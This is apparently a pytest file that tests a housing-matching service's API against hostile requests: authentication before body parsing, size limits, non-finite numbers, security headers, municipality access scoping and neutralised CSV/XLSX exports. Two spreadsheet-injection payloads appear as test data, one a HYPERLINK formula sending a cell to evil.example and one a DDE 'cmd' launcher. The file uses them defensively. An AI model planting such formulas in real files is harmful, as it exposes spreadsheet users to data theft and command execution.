"""The service under hostile requests (each test here failed before its fix):

* authentication comes before the body: no token is a 401 before a byte of the body is read,
  and an unreadable body (not UTF-8, nested too deep, a 5,000-digit number) with a bad token is
  a 401/403, never the 422;
* every body has a size limit: a larger ``Content-Length`` is a 413 at once, and a body sent in
  chunks is cut off with a 413 once it passes the limit;
* ``NaN`` and ``Infinity`` in a JSON body are a 422 naming the field, never a 500.

Against SQLite and PostgreSQL; nothing refused changes the database.
"""

from __future__ import annotations

import socket

import pytest
from api_testing import API, enschede_world, household, serve_in_thread, snapshot

DEEP = "[" * 100_000 + "]" * 100_000
UNREADABLE = {
    "not UTF-8": b'{"households": [{"household_id": "h\xff\xfe"}]}',
    "nested too deep": DEEP.encode(),
    "5,000-digit number": b'{"households": [{"household_id": "h1", "size": ' + b"9" * 5000 + b"}]}",
    "not JSON": b"{{{",
}


@pytest.mark.parametrize("what", list(UNREADABLE))
def test_unreadable_body_is_401_or_403_before_422(client, auth, what):
    """Who is asking is decided before the body: no token and an unknown or revoked one are a
    401, a municipality on a COA route a 403; only COA gets the 422 about the body."""
    before = snapshot(client.app.state.engine)
    body = UNREADABLE[what]
    url = f"{API}/households/batch"
    json_type = {"Content-Type": "application/json"}
    assert client.post(url, content=body, headers=json_type).status_code == 401
    assert client.post(url, content=body, headers={**json_type, "Authorization": "Bearer mt_nonsense"}).status_code == 401
    assert client.post(url, content=body, headers={**json_type, **auth.revoked}).status_code == 401
    assert client.post(url, content=body, headers={**json_type, **auth.enschede}).status_code == 403
    answer = client.post(url, content=body, headers={**json_type, **auth.coa})
    assert answer.status_code == 422, answer.text[:500]
    assert snapshot(client.app.state.engine) == before


NON_FINITE = ["NaN", "Infinity", "-Infinity"]


@pytest.mark.parametrize("constant", NON_FINITE)
def test_non_finite_numbers_are_a_422_naming_the_field(client, auth, run_jobs, constant):
    world = enschede_world(client, auth, run_jobs)
    before = snapshot(client.app.state.engine)
    job, line = world["job"]["id"], world["family"]["id"]
    cases = [
        ("POST", "/proposals", auth.coa, f'{{"as_of": "2023-07-03", "time_limit": {constant}}}', "time_limit"),
        ("POST", "/proposals", auth.coa, f'{{"as_of": "2023-07-03", "params": {{"max_km": {constant}}}}}', "max_km"),
        ("POST", "/homes", auth.enschede,
         f'{{"reference": "E-9", "kind": "regular", "capacity": {constant}, "available_from": "2023-07-01"}}', "capacity"),
        ("PATCH", f"/homes/{world['home']['id']}", auth.enschede, f'{{"capacity": {constant}}}', "capacity"),
        ("PATCH", "/municipalities/GM0153/quota", auth.coa, f'{{"taakstelling": {constant}}}', "taakstelling"),
        ("POST", f"/proposals/{job}/lines/{line}/lock", auth.coa, f'{{"note": {constant}}}', "note"),
        ("POST", "/households/batch", auth.coa,
         f'{{"households": [{{"household_id": "h9", "size": {constant}, "location_id": "azc-enschede", '
         f'"permit_date": "2023-03-01"}}]}}', "size"),
    ]
    for method, path, headers, body, field in cases:
        answer = client.request(method, API + path, content=body,
                                headers={**headers, "Content-Type": "application/json"})
        assert answer.status_code == 422, (path, body, answer.status_code, answer.text[:500])
        named = [e["loc"] for e in answer.json()["detail"]]
        assert any(field in map(str, loc) for loc in named), (path, body, named)
    assert snapshot(client.app.state.engine) == before


# --- size limits, on a real server (the client must not have to send the body) ----------------

@pytest.fixture
def live(service, client):
    """The app of ``service`` on a free loopback port (uvicorn in a thread), its address."""
    with serve_in_thread(service.app) as address:
        yield address


def raw(address, head: str, body_parts=(), timeout: float = 5.0) -> tuple[int, bytes, int]:
    """Send ``head`` (request line and headers) and then ``body_parts`` as long as the server
    reads; returns the status, the response and how many body bytes were sent before the answer."""
    with socket.create_connection(address, timeout=timeout) as sock:
        sock.sendall(head.encode())
        sent = 0
        sock.setblocking(False)
        answer = b""
        for part in body_parts:
            try:
                answer += sock.recv(65536)
            except BlockingIOError:
                pass
            if answer:
                break
            try:
                sock.sendall(part)
                sent += len(part)
            except (BlockingIOError, BrokenPipeError, ConnectionResetError):
                break
        sock.setblocking(True)
        sock.settimeout(timeout)
        while b"\r\n\r\n" not in answer:
            chunk = sock.recv(65536)
            if not chunk:
                break
            answer += chunk
    status = int(answer.split(b" ", 2)[1]) if answer else 0
    return status, answer, sent


def head(path: str, length: int | None, *headers: str, method: str = "POST") -> str:
    lines = [f"{method} {path} HTTP/1.1", "Host: 127.0.0.1", "Content-Type: application/json", *headers]
    lines.append(f"Content-Length: {length}" if length is not None else "Transfer-Encoding: chunked")
    return "\r\n".join(lines) + "\r\n\r\n"


def test_no_token_is_401_before_the_body_is_sent(live, auth):
    """60 MB announced, not a byte sent: no token answers 401 at once (it used to read all 60 MB
    first), so does an unknown token, and a valid one is a 413 (over the 16 MB limit)."""
    status, answer, _ = raw(live, head(f"{API}/households/batch", 60_000_000))
    assert status == 401 and b"missing bearer token" in answer, answer
    status, answer, _ = raw(live, head(f"{API}/households/batch", 6_000_000, "Authorization: Bearer mt_unknown"))
    assert status == 401 and b"unknown or revoked token" in answer, answer
    status, answer, _ = raw(live, head(f"{API}/households/batch", 60_000_000, f"Authorization: {auth.coa['Authorization']}"))
    assert status == 413 and b"at most 16 000 000 bytes" in answer, answer
    status, answer, _ = raw(live, head(f"{API}/homes", 2_000_000, f"Authorization: {auth.enschede['Authorization']}"))
    assert status == 413 and b"at most 1 000 000 bytes" in answer, answer


def test_a_chunked_body_is_cut_off_at_the_limit(live, auth, service):
    """No Content-Length: the body is counted as it comes and refused past 1 MB, long before the
    50 MB the client would send; without a token it is refused before it is read at all.  The
    database is unchanged."""
    before = snapshot(service.engine)
    chunk = b"%x\r\n%s\r\n" % (65536, b" " * 65536)
    start = b'{"households": ['
    parts = [b"%x\r\n%s\r\n" % (len(start), start)] + [chunk] * 800
    status, answer, sent = raw(live, head(f"{API}/homes", None, f"Authorization: {auth.enschede['Authorization']}"),
                               parts, timeout=20)
    assert status == 413, answer
    assert sent < 10_000_000, sent
    status, answer, sent = raw(live, head(f"{API}/homes", None), parts, timeout=20)
    assert status == 401 and sent < 10_000_000, (answer, sent)  # what the socket buffers took, not what was read
    assert snapshot(service.engine) == before


def test_a_batch_near_the_limit_still_works(client, auth):
    """The limits leave room for the largest batch the schema allows to be meaningful: 20,000
    households (about 3 MB) are accepted."""
    body = {"households": [household(f"h{i:05d}", 1 + i % 5) for i in range(20_000)]}
    answer = client.post(f"{API}/households/batch", headers=auth.coa, json=body)
    assert answer.status_code == 200, answer.text[:500]
    assert answer.json()["created"] == 20_000


def test_security_headers_on_api_and_pages(client, auth):
    for response in (client.get(f"{API}/me", headers=auth.coa), client.get("/ui/sign-in"), client.get("/docs"),
                     client.get(f"{API}/me")):
        assert response.headers["x-content-type-options"] == "nosniff"
        assert response.headers["x-frame-options"] == "DENY"
        csp = response.headers["content-security-policy"]
        assert "frame-ancestors 'none'" in csp and "script-src 'self'" in csp and "unsafe-inline" not in csp.split(
            "script-src")[1].split(";")[0]


# --- exports that travel ----------------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"open")'


def test_exports_carry_no_formula(client, auth, run_jobs):
    """A refusal reason that a spreadsheet would run is text in both exports: the CSV cell starts
    with an apostrophe, the XLSX cell is a string (no cell of the workbook is a formula)."""
    import csv
    import io

    from openpyxl import load_workbook

    world = enschede_world(client, auth, run_jobs)
    job, line = world["job"]["id"], world["single"]["id"]
    answer = client.put(f"{API}/proposals/{job}/lines/{line}/decision", headers=auth.coa,
                        json={"decision": "refuse", "reason": EVIL})
    assert answer.status_code == 200, answer.text
    other = client.put(f"{API}/proposals/{job}/lines/{world['family']['id']}/decision", headers=auth.coa,
                       json={"decision": "refuse", "reason": "@SUM(1+1)*cmd|' /C calc'!A0"})
    assert other.status_code == 200, other.text
    rows = list(csv.DictReader(io.StringIO(client.get(f"{API}/proposals/{job}/export.csv", headers=auth.coa).text)))
    reasons = {r["household_id"]: r["decision_reason"] for r in rows}
    assert reasons == {"h-single": "'" + EVIL, "h-family": "'@SUM(1+1)*cmd|' /C calc'!A0"}
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value.lstrip("+-").replace(".", "").isdigit(), r
    text = client.get(f"{API}/proposals/{job}/export.csv", headers=auth.coa, params={"dialect": "nl"}).content.decode("utf-8-sig")
    dutch = list(csv.DictReader(io.StringIO(text), delimiter=";"))  # the Dutch CSV likewise
    assert {r["huishouden"]: r["reden van het besluit"] for r in dutch} == reasons  # (headed in Dutch: for people)
    for r in dutch:
        for value in r.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value.lstrip("+-").replace(",", "").isdigit(), r
    book = load_workbook(io.BytesIO(client.get(f"{API}/proposals/{job}/export.xlsx", headers=auth.coa).content))
    cells = [c for sheet in book.worksheets for r in sheet.iter_rows() for c in r]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    assert EVIL in [c.value for c in cells]  # the text itself, readable, not executed


def test_the_command_lines_csvs_carry_no_formula(tmp_path, monkeypatch):
    """proposal.csv (matcher propose) and the simulator's CSVs neutralise such text where they are written."""
    import csv

    from matcher import write
    from matcher.simulate.report import _write_csv

    row = {name: "" for name in write.PROPOSAL_HEADER}
    row.update(household_id="h1", reason=EVIL, km="-1.5")
    monkeypatch.setattr(write, "proposal_rows", lambda rules, proposal: [row])
    monkeypatch.setattr(write, "summary", lambda rules, proposal: {})
    csv_path, _ = write.write_proposal(None, None, tmp_path)
    (written,) = csv.DictReader(csv_path.open(encoding="utf-8"))
    assert written["reason"] == "'" + EVIL and written["km"] == "-1.5"
    path = _write_csv(tmp_path / "weeks.csv", [{"week": 1, "note": "+1+cmd", "delta": -3, "text": "-3"}])
    (written,) = csv.DictReader(path.open(encoding="utf-8"))
    assert written == {"week": "1", "note": "'+1+cmd", "delta": "-3", "text": "-3"}


# --- a municipality sees a household only while it is coupled, housed or pending there --------

def test_a_household_moved_elsewhere_is_gone_for_the_old_municipality(client, auth, run_jobs):
    world = enschede_world(client, auth, run_jobs)
    job, line = world["job"]["id"], world["family"]["id"]
    assert world["family"]["municipality"] == "GM0153", world["family"]
    assert client.put(f"{API}/proposals/{job}/lines/{line}/decision", headers=auth.coa,
                      json={"decision": "accept"}).status_code == 200
    assert client.get(f"{API}/households/h-family", headers=auth.enschede).status_code == 200
    assert client.get(f"{API}/proposed-lines/{line}", headers=auth.enschede).status_code == 200
    moved = household("h-family", 4, permit_date="2023-03-01", adults=2, children=2, state="housed",
                      municipality="GM0363", coupling_date="2023-07-03", housed_date="2023-07-10")
    answer = client.post(f"{API}/households/batch", headers=auth.coa, json={"households": [moved]})
    assert answer.status_code == 200, answer.text
    assert client.get(f"{API}/households/h-family", headers=auth.enschede).status_code == 404
    assert client.get(f"{API}/proposed-lines/{line}", headers=auth.enschede).status_code == 404
    listed = client.get(f"{API}/households", headers=auth.enschede).json()["items"]
    assert "h-family" not in [h["household_id"] for h in listed]
    proposed = client.get(f"{API}/proposed-lines", headers=auth.enschede).json()["items"]
    assert line not in [p["line_id"] for p in proposed]
    assert client.get(f"{API}/households/h-family", headers=auth.coa).json()["municipality"] == "GM0363"
